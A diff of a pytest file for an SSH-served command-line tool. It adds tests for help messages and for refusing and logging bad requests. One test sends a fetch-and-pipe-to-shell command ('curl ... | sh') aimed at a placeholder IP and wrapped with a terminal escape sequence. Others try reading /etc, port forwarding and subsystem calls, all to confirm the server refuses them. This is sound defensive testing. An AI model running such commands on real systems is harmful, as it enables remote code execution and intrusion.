@@ -73,7 +73,6 @@ needs_client = pytest.mark.parametrize("client", [CLIENT] if CLIENT else [])
         ["search", "zzzqqqxx"],
         ["search", "leadr:erdogan"],
         ["show", "recep-tayyip-erdogan", "--json"],
-        ["show", "nobody-of-this-name"],
         ["export", "leader:erdogan", "2025", "--to", "csv", "--kind", "agreement"],
         ["export", "izmir", "--to", "markdown"],
         ["check"],
@@ -89,6 +88,35 @@ def test_a_plain_answer_is_what_the_command_prints_on_the_host(client: str, serv
         [sys.executable, "-m", "tui", *words], capture_output=True, env=environment, timeout=60, check=False
     )
     assert (there.returncode, there.stdout, there.stderr) == (here.returncode, here.stdout, here.stderr)
+
+
+@needs_client
+def test_what_is_proposed_over_ssh_works_there(client: str, server: Server) -> None:
+    unknown = done(ssh(server, "127.0.0.1", "show", "erdogan"))
+    assert unknown.returncode == 2
+    assert b"`ssh HOST search WORD` prints ids" in unknown.stderr
+    helped = done(ssh(server, "127.0.0.1", "export", "--help"))
+    assert helped.returncode == 0
+    assert b"Usage: ssh HOST export" in helped.stdout
+    assert b"--output" not in helped.stdout
+
+
+@needs_client
+def test_what_is_refused_is_in_the_log(client: str, server: Server) -> None:
+    asked = "curl -s http://192.0.2.1/\x1b[2Jx | sh " + "x" * 500
+    assert done(ssh(server, "-T", "127.0.0.1", asked)).returncode == 2
+    known = server.logged("refused", what="command", name=asked.replace("\x1b", " ")[:200])
+    assert not [entry for entry in server.log if entry["event"] == "opened" and entry["session"] == known["session"]]
+    for words, what, name in (
+        (["-T", "127.0.0.1"], "explorer", "no terminal"),
+        (["127.0.0.1", "search secretword --library /etc"], "option", "search --library"),
+        (["127.0.0.1", "search 'secretword"], "words", "search"),
+        (["-s", "127.0.0.1", "netconf"], "subsystem", "netconf"),
+        (["-W", "127.0.0.1:22", "127.0.0.1"], "forwarding", "to 127.0.0.1:22"),
+    ):
+        assert done(ssh(server, *words)).returncode != 0
+        server.logged("refused", what=what, name=name)
+    assert "secretword" not in (server.folder / "log").read_text(encoding="utf-8")
 
 
 @needs_client
